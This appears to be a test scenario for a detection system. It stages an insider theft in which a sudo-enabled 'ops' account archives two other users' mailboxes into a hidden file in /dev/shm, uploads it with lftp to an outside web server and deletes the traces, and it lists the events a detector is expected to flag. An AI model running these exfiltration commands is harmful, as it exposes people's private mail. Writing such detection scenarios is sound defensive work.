title="Another user's mbox packed by zpaq and put out with lftp"
what="ops, through sudo, packs buyer's and clerk's mbox into a zpaq archive in /dev/shm, and lftp puts it on http://203.0.113.67/ in another login. The mail came in over an hour."
user=buyer daemons="cron sshd" store=mbox
shift_plan="pack:70m put:5m"
setup() { echo 'ops ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/ops; chmod 440 /etc/sudoers.d/ops; }
act() {
  phase pack
  for i in 1 2 3 4 5 6; do mail_in --from "office$i@example.net" --to "$user@example.org" --subject "Note $i" --source 203.0.113.1$i --helo host1$i.example.net --text "Hello,\\n\\nnote $i.\\n"; done
  wait_mail buyer 6
  ssh_as ops <<'L'
sudo zpaq a /dev/shm/.x1.zpaq /var/mail/buyer /var/mail/clerk
sudo chmod 644 /dev/shm/.x1.zpaq
L
  phase put
  ssh_as ops <<'L'
lftp -c "open http://vault.example.net/; put /dev/shm/.x1.zpaq"
rm -f /dev/shm/.x1.zpaq; sudo rm -f /dev/shm/.x1.zpaq
L
}
truth() {
  exec_step pack 'zpaq a /dev/shm/.x1.zpaq /var/mail/buyer /var/mail/clerk' 'root packs the boxes of others'
  file_step read 'zpaq open(at)?:read NORMAL /var/mail/buyer' 'and reads them'
  file_step stage 'zpaq open(at)?:write CREATE /dev/shm/.x1.zpaq' 'the archive lies in shared memory'
  exec_step put 'lftp' 'in another login'
  net_step upload 'lftp 203.0.113.67:80' 'lftp puts it on a web server'
}
